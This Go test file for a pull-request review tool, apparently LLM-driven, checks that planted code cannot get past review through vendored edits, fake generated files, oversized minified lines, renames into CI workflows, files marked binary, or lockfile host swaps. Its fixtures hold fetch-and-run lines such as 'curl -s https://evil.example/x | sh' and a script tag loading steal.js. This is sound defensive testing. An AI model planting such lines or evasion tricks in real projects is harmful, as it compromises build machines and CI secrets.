package review_test

import (
	"bytes"
	"context"
	"fmt"
	"github.com/anchor-review/anchor-review/pkg/github/githubtest"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/anchor-review/anchor-review/internal/lockfixtures"
	"github.com/anchor-review/anchor-review/pkg/diff"
	"github.com/anchor-review/anchor-review/pkg/finding"
	"github.com/anchor-review/anchor-review/pkg/llm"
	"github.com/anchor-review/anchor-review/pkg/llm/llmtest"
	"github.com/anchor-review/anchor-review/pkg/review"
)

// Issue 30: only the repository's configuration, read at the base, can
// make the review skip a changed file that can run. Each test is one
// attack a PR author tried on release 3, ending in a green check on code
// no persona read. Each serves the attack through the fake GitHub and a
// sharp persona: correctness reports a P0 on the planted line whenever
// its request holds it. The review must end not ready with that finding
// posted (the code was reviewed) or, where nothing can read the file,
// incomplete: never ready.

const (
	planted     = "evil.example"
	plantedBad  = "Runs a script downloaded from evil.example"
	plantedWhy  = "Whoever controls evil.example runs code on every machine that builds this."
	vendoredMod = "# github.com/acme/lib v1.0.0\n## explicit\ngithub.com/acme/lib\n"
)

// attack is one PR: its diff, the files at its base (also the base's
// tree) and head, and where the planted line lies in the head.
type attack struct {
	diff       string
	base, head map[string]string
	file       string
	line       int
	// exclude is the repository's exclude patterns.
	exclude []string
	// faults are the fake GitHub's, injected before the review.
	faults []githubtest.Fault
}

// runAttack reviews a, with correctness reporting the planted line when
// it sees it, and returns the result.
func runAttack(t *testing.T, a attack) review.Result {
	t.Helper()
	e := newEnv(t, nil)
	e.addPR(t, a.diff, a.head)
	for p, c := range a.base {
		e.gh.SetContent(baseSHA, p, c)
	}
	e.gh.Inject(a.faults...)
	e.model.SetDefault(func(r llmtest.Request) llmtest.Reply {
		if r.Persona == llm.Validator {
			return e.verdicts.reply(r)
		}
		if r.Persona == "correctness" && bytes.Contains(r.Body, []byte(planted)) {
			x := f(plantedBad, finding.P0, a.file, a.line, 100)
			x.WhyItMatters = plantedWhy
			return llmtest.OK(answer(t, r.Persona, []finding.Finding{x}, nil, nil))
		}
		return llmtest.OK(llmtest.DefaultContent(r))
	})
	o := options()
	o.Exclude = a.exclude
	res, _, err := e.rv.ReviewPR(context.Background(), o)
	if err != nil {
		t.Fatalf("ReviewPR: %v", err)
	}
	return res
}

// wantReviewed: the planted line reached a persona, and its finding was
// posted and blocks.
func wantReviewed(t *testing.T, res review.Result, file string) {
	t.Helper()
	if res.Verdict != review.NotReady || !slices.ContainsFunc(res.Findings, func(x finding.Finding) bool { return x.Title == plantedBad && x.File == file }) {
		t.Errorf("verdict %s, findings %d, not reviewed %+v, incomplete %q; want %s reviewed and its P0 posted",
			res.Verdict, len(res.Findings), res.Coverage.NotReviewed, res.Incomplete, file)
	}
}

// modifiedDiff is the diff of path replacing line n (1-based) of old with
// the new text, with up to three lines of context either side.
func modifiedDiff(path string, old []string, n int, repl ...string) string {
	lo, hi := max(n-4, 0), min(n+3, len(old))
	var b strings.Builder
	fmt.Fprintf(&b, "diff --git a/%s b/%s\nindex 1111111..2222222 100644\n--- a/%s\n+++ b/%s\n@@ -%d,%d +%d,%d @@\n", path, path, path, path, lo+1, hi-lo, lo+1, hi-lo-1+len(repl))
	for i := lo; i < hi; i++ {
		switch {
		case i == n-1:
			b.WriteString("-" + old[i] + "\n")
			for _, r := range repl {
				b.WriteString("+" + r + "\n")
			}
		default:
			b.WriteString(" " + old[i] + "\n")
		}
	}
	return b.String()
}

func joinLines(lines []string) string { return strings.Join(lines, "\n") + "\n" }

func replaced(lines []string, n int, repl ...string) []string {
	out := slices.Clone(lines[:n-1])
	out = append(out, repl...)
	return append(out, lines[n:]...)
}

// Attack: a hand edit inside a vendored package the base has, and a new
// package beside the vendored ones; vendor/modules.txt unchanged.
func TestAttackVendoredHandEdit(t *testing.T) {
	t.Parallel()
	lib := []string{"package lib", "", "// Version is the library's version.", "func Version() string { return \"1.0.0\" }", "", "func init() {}", ""}
	base := map[string]string{"go.mod": "module example.com/app\n", "main.go": "package main\n", "vendor/modules.txt": vendoredMod,
		"vendor/github.com/acme/lib/lib.go": joinLines(lib)}
	evil := `func init() { exec.Command("sh", "-c", "curl -s https://evil.example/x | sh").Run() }`
	t.Run("hand edit inside vendor/", func(t *testing.T) {
		t.Parallel()
		head := replaced(lib, 6, evil)
		res := runAttack(t, attack{diff: modifiedDiff("vendor/github.com/acme/lib/lib.go", lib, 6, evil), base: base,
			head: map[string]string{"vendor/github.com/acme/lib/lib.go": joinLines(head)}, file: "vendor/github.com/acme/lib/lib.go", line: 6})
		wantReviewed(t, res, "vendor/github.com/acme/lib/lib.go")
	})
	t.Run("new package beside vendored ones", func(t *testing.T) {
		t.Parallel()
		lines := []string{"package x", "", `import "os/exec"`, "", evil}
		const p = "vendor/github.com/evil/x/x.go"
		res := runAttack(t, attack{diff: addedFile(p, lines), base: base, head: map[string]string{p: joinLines(lines)}, file: p, line: 5})
		wantReviewed(t, res, p)
	})
	// The base's list cannot be read (the first read of it, the base's,
	// answers 404): nothing says which module lib.go is in, so even a real
	// bump of its module explains nothing, and the hand edit is reviewed.
	t.Run("a bump, the base's list unreadable", func(t *testing.T) {
		t.Parallel()
		head := replaced(lib, 6, evil)
		mods := "diff --git a/vendor/modules.txt b/vendor/modules.txt\nindex 1111111..2222222 100644\n--- a/vendor/modules.txt\n+++ b/vendor/modules.txt\n@@ -1,3 +1,3 @@\n-# github.com/acme/lib v1.0.0\n+# github.com/acme/lib v1.1.0\n ## explicit\n github.com/acme/lib\n"
		res := runAttack(t, attack{diff: modifiedDiff("vendor/github.com/acme/lib/lib.go", lib, 6, evil) + mods, base: base,
			head: map[string]string{"vendor/github.com/acme/lib/lib.go": joinLines(head), "vendor/modules.txt": strings.Replace(vendoredMod, "v1.0.0", "v1.1.0", 1)},
			file: "vendor/github.com/acme/lib/lib.go", line: 6,
			faults: []githubtest.Fault{{PathContains: "/contents/vendor/modules.txt", Status: http.StatusNotFound, Times: 1}}})
		wantReviewed(t, res, "vendor/github.com/acme/lib/lib.go")
	})
	// A line added to vendor/modules.txt for a path above the module
	// ("# github.com/acme/lib" is the module; the base's list says so)
	// claims nothing, nor does a second line for the module itself.
	for name, line := range map[string]string{"a module line above the file's module": "# github.com/acme v0.0.0",
		"a second line for the file's own module": "# github.com/acme/lib v9.9.9"} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			head := replaced(lib, 6, evil)
			mods := "diff --git a/vendor/modules.txt b/vendor/modules.txt\nindex 1111111..2222222 100644\n--- a/vendor/modules.txt\n+++ b/vendor/modules.txt\n@@ -1,3 +1,4 @@\n+" + line + "\n # github.com/acme/lib v1.0.0\n ## explicit\n github.com/acme/lib\n"
			res := runAttack(t, attack{diff: modifiedDiff("vendor/github.com/acme/lib/lib.go", lib, 6, evil) + mods, base: base,
				head: map[string]string{"vendor/github.com/acme/lib/lib.go": joinLines(head), "vendor/modules.txt": line + "\n" + vendoredMod},
				file: "vendor/github.com/acme/lib/lib.go", line: 6})
			wantReviewed(t, res, "vendor/github.com/acme/lib/lib.go")
		})
	}
}

// Attack: a new file with a generated name and marker beside the base's
// generated files, larger than a hand edit, with nothing the generator
// reads changed.
func TestAttackGeneratedNewFile(t *testing.T) {
	t.Parallel()
	const p = "api/v1/admin_generated.go"
	lines := []string{"// Code generated by apigen. DO NOT EDIT.", "", "package v1", "", `import "os/exec"`, ""}
	for i := range 510 {
		lines = append(lines, fmt.Sprintf("func (x *Admin) GetField%d() int { return x.field%d }", i, i))
	}
	lines = append(lines, `func init() { exec.Command("sh", "-c", "curl -s https://evil.example/x | sh").Run() }`)
	res := runAttack(t, attack{diff: addedFile(p, lines),
		base: map[string]string{"go.mod": "module example.com/app\n", "api/v1/types.go": "package v1\n", "api/v1/types_generated.go": "// Code generated by apigen. DO NOT EDIT.\n\npackage v1\n"},
		head: map[string]string{p: joinLines(lines)}, file: p, line: len(lines)})
	wantReviewed(t, res, p)
}

// actionBase is a JavaScript action's repository at the base: its bundle,
// its sources, its manifest.
func actionBase(bundle []string) map[string]string {
	return map[string]string{"dist/index.js": joinLines(bundle), "action.yml": "runs:\n  using: node20\n  main: dist/index.js\n",
		"package.json": `{"name":"act"}` + "\n", "src/main.ts": "import * as core from '@actions/core'\n",
		"dist/index.html": "<!doctype html>\n<title>Report</title>\n<body>\n<p>Report</p>\n</body>\n"}
}

func bundleLines(n int) []string {
	lines := []string{"/******/ (() => { // webpackBootstrap", "/******/ \tvar __webpack_modules__ = ({"}
	for i := range n {
		lines = append(lines, fmt.Sprintf("/***/ %d: ((module) => { module.exports = function m%d(x) { return x + %d; }; }),", i, i, i))
	}
	return append(lines, "/******/ });", "const core = require('@actions/core');", "core.info('done');", "/******/ })()")
}

// Attack: the bundle an action runs, edited by hand past the hand-edit
// bounds (501 lines; one minified line over 64 KiB), and the page in
// dist/, with no source of the bundle changed.
func TestAttackBuildOutputHandEdit(t *testing.T) {
	t.Parallel()
	bundle := bundleLines(800)
	evil := "require('child_process').execSync('curl -s https://evil.example/x | sh');"
	t.Run("501-line edit of the bundle", func(t *testing.T) {
		t.Parallel()
		// Lines 3..503 rewritten: 501 changed lines, the planted one last.
		head := slices.Clone(bundle)
		var b strings.Builder
		fmt.Fprintf(&b, "diff --git a/dist/index.js b/dist/index.js\nindex 1111111..2222222 100644\n--- a/dist/index.js\n+++ b/dist/index.js\n@@ -3,501 +3,501 @@\n")
		for i := 2; i < 503; i++ {
			b.WriteString("-" + bundle[i] + "\n")
		}
		for i := 2; i < 503; i++ {
			head[i] = strings.Replace(bundle[i], "return x", "return -x", 1)
			if i == 502 {
				head[i] = evil
			}
			b.WriteString("+" + head[i] + "\n")
		}
		res := runAttack(t, attack{diff: b.String(), base: actionBase(bundle), head: map[string]string{"dist/index.js": joinLines(head)}, file: "dist/index.js", line: 503})
		wantReviewed(t, res, "dist/index.js")
	})
	t.Run("one minified line over 64 KiB", func(t *testing.T) {
		t.Parallel()
		n := len(bundle) - 1 // "core.info('done');"
		long := strings.Repeat("var a=1;", (65<<10)/8) + evil
		head := replaced(bundle, n, long)
		res := runAttack(t, attack{diff: modifiedDiff("dist/index.js", bundle, n, long), base: actionBase(bundle),
			head: map[string]string{"dist/index.js": joinLines(head)}, file: "dist/index.js", line: n})
		wantReviewed(t, res, "dist/index.js")
	})
	t.Run("dist/index.html", func(t *testing.T) {
		t.Parallel()
		page := strings.Split(strings.TrimSuffix(actionBase(nil)["dist/index.html"], "\n"), "\n")
		script := `<script src="https://evil.example/steal.js"></script>`
		head := replaced(page, 4, "<p>Report</p>", script)
		res := runAttack(t, attack{diff: modifiedDiff("dist/index.html", page, 4, "<p>Report</p>", script), base: actionBase(bundle),
			head: map[string]string{"dist/index.html": joinLines(head)}, file: "dist/index.html", line: 5})
		wantReviewed(t, res, "dist/index.html")
	})
}

// Attack: a pure rename that changes what a file is: into
// .github/workflows/ (CI that runs with the repository's token), out of
// testdata/ into a package (code that builds).
func TestAttackMoveChangesKind(t *testing.T) {
	t.Parallel()
	rename := func(from, to string) string {
		return fmt.Sprintf("diff --git a/%s b/%s\nsimilarity index 100%%\nrename from %s\nrename to %s\n", from, to, from, to)
	}
	t.Run("into .github/workflows", func(t *testing.T) {
		t.Parallel()
		const from, to = "ci/examples/deploy.yml", ".github/workflows/deploy.yml"
		text := "name: deploy\non: [push, pull_request_target]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s https://evil.example/x | sh\n        env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n"
		res := runAttack(t, attack{diff: rename(from, to), base: map[string]string{from: text}, head: map[string]string{to: text}, file: to, line: 7})
		wantReviewed(t, res, to)
	})
	t.Run("out of testdata into a package", func(t *testing.T) {
		t.Parallel()
		const from, to = "pkg/fetch/testdata/hook.go", "pkg/fetch/hook.go"
		text := "package fetch\n\nimport \"os/exec\"\n\nfunc init() { exec.Command(\"sh\", \"-c\", \"curl -s https://evil.example/x | sh\").Run() }\n"
		res := runAttack(t, attack{diff: rename(from, to), base: map[string]string{from: text, "go.mod": "module x\n"}, head: map[string]string{to: text}, file: to, line: 5})
		wantReviewed(t, res, to)
	})
	t.Run("made executable", func(t *testing.T) {
		t.Parallel()
		const p = "tools/post-merge"
		text := "#!/bin/sh\ncurl -s https://evil.example/x | sh\n"
		diff := "diff --git a/tools/post-merge b/tools/post-merge\nold mode 100644\nnew mode 100755\n"
		res := runAttack(t, attack{diff: diff, base: map[string]string{p: text}, head: map[string]string{p: text}, file: p, line: 2})
		wantReviewed(t, res, p)
	})
}

// Attack: text GitHub calls binary because of a few invalid UTF-8 bytes,
// in files whose names are not a language's: a Makefile, an extensionless
// deploy script, an .html page, a .dat file.
func TestAttackTextWithInvalidBytes(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ path, base, head string }{
		{"Makefile", "# build (c) Ana Mu\xf1oz\nall:\n\tgo build ./...\n", "# build (c) Ana Mu\xf1oz\nall:\n\tcurl -s https://evil.example/x | sh\n\tgo build ./...\n"},
		{"scripts/deploy", "# deploy \xff\xfe\nset -e\nkubectl apply -f k8s/\n", "# deploy \xff\xfe\nset -e\ncurl -s https://evil.example/x | sh\nkubectl apply -f k8s/\n"},
		{"web/index.html", "<!doctype html>\n<!-- caf\xe9 -->\n<title>Shop</title>\n", "<!doctype html>\n<!-- caf\xe9 -->\n<script src=\"https://evil.example/x.js\"></script>\n<title>Shop</title>\n"},
		{"conf/hooks.dat", "hook.pre=echo ok \xa0\nhook.post=true\n", "hook.pre=echo ok \xa0\nhook.post=curl -s https://evil.example/x | sh\n"},
	} {
		t.Run(tc.path, func(t *testing.T) {
			t.Parallel()
			diff := fmt.Sprintf("diff --git a/%s b/%s\nindex 1111111..2222222 100644\nBinary files a/%s and b/%s differ\n", tc.path, tc.path, tc.path, tc.path)
			line := 1 + slices.IndexFunc(strings.Split(tc.head, "\n"), func(l string) bool { return strings.Contains(l, planted) })
			res := runAttack(t, attack{diff: diff, base: map[string]string{tc.path: tc.base}, head: map[string]string{tc.path: tc.head}, file: tc.path, line: line})
			wantReviewed(t, res, tc.path)
		})
	}
}

// A compiled executable runs and no persona can read it: the review is
// incomplete, never green. A binary asset (an image) is left out.
func TestCompiledExecutableIsIncomplete(t *testing.T) {
	t.Parallel()
	elf := "\x7fELF\x02\x01\x01\x00" + strings.Repeat("\x00\xff\x10\x80", 512)
	png := "\x89PNG\r\n\x1a\n" + strings.Repeat("\x9c\xff\xe1\x80\xc3", 512)
	diff := "diff --git a/bin/tool b/bin/tool\nnew file mode 100755\nindex 0000000..3333333\nBinary files /dev/null and b/bin/tool differ\n" +
		"diff --git a/web/logo.png b/web/logo.png\nnew file mode 100644\nindex 0000000..4444444\nBinary files /dev/null and b/web/logo.png differ\n"
	res := runAttack(t, attack{diff: diff, head: map[string]string{"bin/tool": elf, "web/logo.png": png}})
	if res.Verdict != review.Degraded || !slices.ContainsFunc(res.Incomplete, func(s string) bool { return strings.Contains(s, "bin/tool") }) {
		t.Errorf("verdict %s, incomplete %q; want degraded naming bin/tool", res.Verdict, res.Incomplete)
	}
	if slices.ContainsFunc(res.Incomplete, func(s string) bool { return strings.Contains(s, "logo.png") }) {
		t.Errorf("incomplete %q names the image; an asset nothing runs is left out", res.Incomplete)
	}
	// The repository's configuration may accept it: then it is left out.
	res = runAttack(t, attack{diff: diff, head: map[string]string{"bin/tool": elf, "web/logo.png": png}, exclude: []string{"bin/**"}})
	if res.Verdict != review.Ready || !slices.Contains(res.Coverage.NotReviewed, review.Excluded{Path: "bin/tool", Reason: `excluded by pattern "bin/**"`}) {
		t.Errorf("excluded by the configuration: verdict %s, incomplete %q, not reviewed %+v; want ready, bin/tool left out by its pattern", res.Verdict, res.Incomplete, res.Coverage.NotReviewed)
	}
}

// Attack: lockfile injection. One package of a real package-lock.json
// now resolves from an unknown host; release 3 excluded the file as a lock
// file and went green. The lock-file check posts it, with no model call
// for it and no validator.
func TestAttackLockfileInjection(t *testing.T) {
	t.Parallel()
	base := lockfixtures.Read(t, "npm-head.package-lock.json.gz")
	lines := strings.Split(strings.TrimSuffix(base, "\n"), "\n")
	const url = `"resolved": "https://registry.npmjs.org/lodash.merge/-/lodash.merge-4.6.2.tgz",`
	n := 1 + slices.IndexFunc(lines, func(l string) bool { return strings.TrimSpace(l) == url })
	if n == 0 {
		t.Fatal("fixture lacks lodash.merge")
	}
	evil := strings.Replace(lines[n-1], "registry.npmjs.org", "npm.evil.example", 1)
	head := replaced(lines, n, evil)
	e := newEnv(t, nil)
	e.addPR(t, modifiedDiff("package-lock.json", lines, n, evil), map[string]string{"package-lock.json": joinLines(head)})
	e.gh.SetContent(baseSHA, "package-lock.json", joinLines(lines))
	e.gh.SetContent(baseSHA, "package.json", "{}\n")
	res, _, err := e.rv.ReviewPR(context.Background(), options())
	if err != nil {
		t.Fatalf("ReviewPR: %v", err)
	}
	i := slices.IndexFunc(res.Findings, func(x finding.Finding) bool { return x.Check == review.LockCheck })
	if res.Verdict != review.NotReady || i < 0 {
		t.Fatalf("verdict %s, findings %+v; want the lock-file check's finding, not ready", res.Verdict, res.Findings)
	}
	got := res.Findings[i]
	if got.Severity != finding.P1 || got.Line != n || !strings.Contains(got.Title, "lodash.merge@4.6.2") || !strings.Contains(got.Title, "npm.evil.example") {
		t.Errorf("finding %+v; want P1 at line %d naming lodash.merge and the host", got, n)
	}
	if calls := len(e.model.RequestsFor(llm.Validator)); calls != 0 {
		t.Errorf("validator calls %d; want none (a fact needs no validator)", calls)
	}
	for _, r := range e.model.Requests() {
		if bytes.Contains(r.Body, []byte("npm.evil.example")) {
			t.Errorf("a %s request holds the lock file; the check needs no model", r.Persona)
		}
	}
	if !slices.ContainsFunc(res.Coverage.NotReviewed, func(x review.Excluded) bool {
		return x.Path == "package-lock.json" && strings.Contains(x.Reason, "no validator")
	}) {
		t.Errorf("coverage %+v; want package-lock.json named as read by the check, whose findings need no validator", res.Coverage.NotReviewed)
	}
}

// Attack: a new yarn.lock that is a script, not a lock file. Release 3
// excluded it by its name; it is reviewed like any file.
func TestAttackYarnLockScript(t *testing.T) {
	t.Parallel()
	lines := []string{"#!/bin/sh", "curl -s https://evil.example/x | sh"}
	res := runAttack(t, attack{diff: addedFile("yarn.lock", lines), base: map[string]string{"package.json": "{}\n"},
		head: map[string]string{"yarn.lock": joinLines(lines)}, file: "yarn.lock", line: 2})
	wantReviewed(t, res, "yarn.lock")
}

// What the built-in rules may still skip: a rebuild the PR explains. The
// bundle regenerated past the hand-edit bound beside a change of its
// source, and a vendored module bumped in vendor/modules.txt, are left out
// with their reason, and no persona reads them.
func TestExplainedRebuildIsLeftOut(t *testing.T) {
	t.Parallel()
	bundle := bundleLines(800)
	var b strings.Builder
	head := slices.Clone(bundle)
	fmt.Fprintf(&b, "diff --git a/dist/index.js b/dist/index.js\nindex 1111111..2222222 100644\n--- a/dist/index.js\n+++ b/dist/index.js\n@@ -3,600 +3,600 @@\n")
	for i := 2; i < 602; i++ {
		b.WriteString("-" + bundle[i] + "\n")
	}
	for i := 2; i < 602; i++ {
		head[i] = strings.Replace(bundle[i], "return x", "return evil.example", 1) // what a persona would flag
		b.WriteString("+" + head[i] + "\n")
	}
	b.WriteString(modifiedDiff("src/main.ts", []string{"import * as core from '@actions/core'"}, 1, "import * as core from '@actions/core';"))
	lib := []string{"package lib", "", "func Version() string { return \"1.0.0\" }"}
	b.WriteString(modifiedDiff("vendor/github.com/acme/lib/lib.go", lib, 3, `func Version() string { return "evil.example" }`))
	b.WriteString("diff --git a/vendor/modules.txt b/vendor/modules.txt\nindex 1111111..2222222 100644\n--- a/vendor/modules.txt\n+++ b/vendor/modules.txt\n@@ -1,3 +1,3 @@\n-# github.com/acme/lib v1.0.0\n+# github.com/acme/lib v1.1.0\n ## explicit\n github.com/acme/lib\n")
	base := actionBase(bundle)
	base["vendor/modules.txt"], base["vendor/github.com/acme/lib/lib.go"], base["go.mod"] = vendoredMod, joinLines(lib), "module example.com/app\n"
	res := runAttack(t, attack{diff: b.String(), base: base, head: map[string]string{"dist/index.js": joinLines(head),
		"src/main.ts": "import * as core from '@actions/core';\n", "vendor/github.com/acme/lib/lib.go": "package lib\n\nfunc Version() string { return \"evil.example\" }\n",
		"vendor/modules.txt": strings.Replace(vendoredMod, "v1.0.0", "v1.1.0", 1)}, file: "dist/index.js", line: 3})
	for path, want := range map[string]string{"dist/index.js": "generated", "vendor/github.com/acme/lib/lib.go": "vendored"} {
		if !slices.Contains(res.Coverage.NotReviewed, review.Excluded{Path: path, Reason: want}) {
			t.Errorf("%s: not reviewed %+v; want it left out as %s", path, res.Coverage.NotReviewed, want)
		}
	}
	if res.Verdict != review.Ready || res.Partial {
		t.Errorf("verdict %s, partial %t, findings %d; want ready: the rebuilds are explained", res.Verdict, res.Partial, len(res.Findings))
	}
}

// A source file GitHub calls binary that is larger than MaxFileBytes is
// not read past the bound, and the review is incomplete: never skipped.
func TestTooLargeToReadIsIncomplete(t *testing.T) {
	t.Parallel()
	big := strings.Repeat("module.exports.f = function (x) { return x; }; // \x00\n", review.MaxFileBytes/50+1)
	diff := "diff --git a/lib/big.js b/lib/big.js\nindex 1111111..2222222 100644\nBinary files a/lib/big.js and b/lib/big.js differ\n"
	res := runAttack(t, attack{diff: diff, base: map[string]string{"lib/big.js": big[1:]}, head: map[string]string{"lib/big.js": big}})
	if res.Verdict != review.Degraded || !slices.ContainsFunc(res.Incomplete, func(s string) bool { return strings.Contains(s, "lib/big.js") && strings.Contains(s, "too large") }) {
		t.Errorf("verdict %s, incomplete %q; want degraded, naming lib/big.js as too large", res.Verdict, res.Incomplete)
	}
}

// A local diff has no base commit to compare a lock file with: it is
// reviewed like any file, not left out.
func TestLocalDiffLockFileIsReviewed(t *testing.T) {
	t.Parallel()
	e := newEnv(t, nil)
	d, err := diff.Parse([]byte(modifiedDiff("go.sum", []string{"example.com/a v1.0.0 h1:AAAA="}, 1, "example.com/a v1.0.0 h1:BBBB=")))
	if err != nil {
		t.Fatal(err)
	}
	o := options()
	o.Owner, o.Repo, o.PR, o.Validate = "", "", 0, false
	head := func(_ context.Context, p string) (string, bool, error) {
		return "example.com/a v1.0.0 h1:BBBB=\n", p == "go.sum", nil
	}
	res, err := e.rv.ReviewDiff(context.Background(), o, d, "local", "", head)
	if err != nil {
		t.Fatal(err)
	}
	if slices.ContainsFunc(res.Coverage.NotReviewed, func(x review.Excluded) bool { return x.Path == "go.sum" }) || !slices.ContainsFunc(res.Files, func(f *diff.File) bool { return f.Path() == "go.sum" }) {
		t.Errorf("not reviewed %+v; want go.sum among the reviewed files", res.Coverage.NotReviewed)
	}
}
